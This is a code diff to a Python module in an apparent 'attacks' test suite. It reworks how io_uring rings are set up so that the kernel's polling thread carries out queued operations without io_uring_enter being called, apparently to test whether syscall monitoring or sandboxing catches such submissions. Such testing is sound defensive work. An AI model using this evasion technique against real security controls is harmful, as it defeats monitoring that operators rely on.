@@ -19,6 +19,7 @@ from attacks.consts import (
     IORING_OFF_SQES,
     IORING_REGISTER_FILES,
     IORING_REGISTER_PERSONALITY,
+    IORING_SETUP_ATTACH_WQ,
     IORING_SETUP_NO_MMAP,
     IORING_SETUP_SQPOLL,
     MAP_POPULATE,
@@ -31,15 +32,11 @@ from attacks.consts import (
 from attacks.errors import AttackError
 from attacks.recorder import Arg, Recorder, Result, octal
 
-HURRIED = 2
-"""How many rings try; each wins its race nearly always, and costs the kernel 4 ms to take down."""
-_HURRY_US = 20_000
-
 _ENTRIES = 4
 _PAGE = 4096
 _PARAMS_SIZE = 120
+_FLAGS, _SQ_THREAD_IDLE, _WQ_FD = 8, 16, 24
 _SQ_TAIL, _SQ_FLAGS, _SQ_ARRAY, _SQ_USER_ADDR = 44, 56, 64, 72
-_BORN_SQ_TAIL, _BORN_CQ_TAIL = 4, 12
 _CQ_TAIL, _CQES, _CQ_USER_ADDR = 84, 100, 112
 _IDLE_MS = 20_000
 _SQE_SIZE, _CQE_SIZE, _CQE_RES = 64, 16, 8
@@ -115,8 +112,8 @@ class Ring:
     """More flags for ``io_uring_enter``."""
     sq_flags: Arg = 0
     """With a kernel thread: where it says that it sleeps."""
-    unborn: Arg | None = None
-    """The parameters of a ring that is made after its only entry was written."""
+    waker: Arg | None = None
+    """The parameters of a ring that attaches to this one's thread, which wakes it."""
 
     @staticmethod
     def make(
@@ -131,9 +128,9 @@ class Ring:
         setup = extra | setup if extra else setup
         params = k.buffer(_PARAMS_SIZE, name="params")
         if setup:
-            k.store(params, 8, 4, setup)
+            k.store(params, _FLAGS, 4, setup)
         if sqpoll:
-            k.store(params, 16, 4, _IDLE_MS)
+            k.store(params, _SQ_THREAD_IDLE, 4, _IDLE_MS)
         own = (k.buffer(_PAGE, align=_PAGE), k.buffer(_PAGE, align=_PAGE)) if not mapped else None
         if own:
             k.store(params, _SQ_USER_ADDR, 8, own[1])
@@ -146,22 +143,18 @@ class Ring:
         return Ring(calls, memory, _Progress(), sqpoll=sqpoll, sq_flags=flags)
 
     @staticmethod
-    def hurried(k: Recorder) -> Ring:
-        """A ring with a kernel thread, in memory that the program brings, for one operation.
+    def woken(k: Recorder) -> Ring:
+        """A ring with a kernel thread that is woken by setting up another one, for one operation.
 
-        The entry is written first; between ``io_uring_setup`` and the store of the tail there is
-        nothing.  The thread looks at the queue once before it sleeps, so it mostly finds the entry,
-        and ``io_uring_enter`` is never called.  Offsets in the ring are those of every kernel since
-        5.1; the kernel's own answer comes too late.
+        A ring that attaches (IORING_SETUP_ATTACH_WQ, since 5.6) parks and unparks the thread, which
+        then looks at all queues for as long as it is to idle: ``io_uring_enter`` is never called.
         """
-        params = k.buffer(_PARAMS_SIZE, name="params")
-        rings, sqes = k.buffer(_PAGE, align=_PAGE), k.buffer(_PAGE, align=_PAGE)
-        k.store(params, 8, 4, IORING_SETUP_SQPOLL | IORING_SETUP_NO_MMAP)
-        k.store(params, 16, 4, 1)  # ms of looking on, or the threads fight for a core
-        k.store(params, _SQ_USER_ADDR, 8, sqes)
-        k.store(params, _CQ_USER_ADDR, 8, rings)
-        memory = _Memory(0, sqes, rings, rings, rings, rings, ())
-        return Ring(k, memory, _Progress(), sqpoll=True, store_only=True, unborn=params)
+        ring = Ring.make(k, k, sqpoll=True, mapped=False)
+        waker = k.buffer(_PARAMS_SIZE, name="params")
+        k.store(waker, _FLAGS, 4, IORING_SETUP_SQPOLL | IORING_SETUP_ATTACH_WQ)
+        k.store(waker, _SQ_THREAD_IDLE, 4, _IDLE_MS)
+        k.store(waker, _WQ_FD, 4, ring.fd)
+        return replace(ring, waker=waker)
 
     @property
     def fd(self) -> Arg:
@@ -289,9 +282,6 @@ class Ring:
         index = self._fill(name, **{**fields, **own})
         opcode = ", ".join((*self.progress.waiting, f"IORING_OP_{name}"))
         self.progress.waiting.clear()
-        if self.unborn is not None:
-            self.k.raw("io_uring_setup", _ENTRIES, self.unborn)
-            return self.k.store(self.memory.sq_tail, _BORN_SQ_TAIL, 4, 1)
         self.k.store(self.memory.sq_array, 4 * index, 4, index)
         cause = self._publish(opcode, index)
         answer = self.k.load(self.memory.cqes, index * _CQE_SIZE + _CQE_RES, 4)
@@ -317,16 +307,14 @@ class Ring:
                 self.k.store(self.memory.sqes, index * _SQE_SIZE + offset, width, value)
         return index
 
-    def linger(self) -> None:
-        """After a hurried operation: stays alive until it is done, or for a while."""
-        self.k.wait(self.memory.cq_tail, _BORN_CQ_TAIL, 0, _HURRY_US)
-
     def _publish(self, opcode: str, index: int) -> Result:
         if self.sqpoll and not self.store_only:
             # Awake, it would take the entry without being asked: then the call decides nothing.
             self.k.wait(self.sq_flags, 0, 0, _FOREVER_US)
         tail = self.k.store(self.memory.sq_tail, 0, 4, index + 1)
-        if self.store_only:
+        if self.waker is not None:
+            tail = self.k.raw("io_uring_setup", _ENTRIES, self.waker, opcode=opcode)
+        if self.store_only or self.waker is not None:
             self.k.wait(self.memory.cq_tail, 0, index, _FOREVER_US)
             return tail
         flags = IORING_ENTER_GETEVENTS
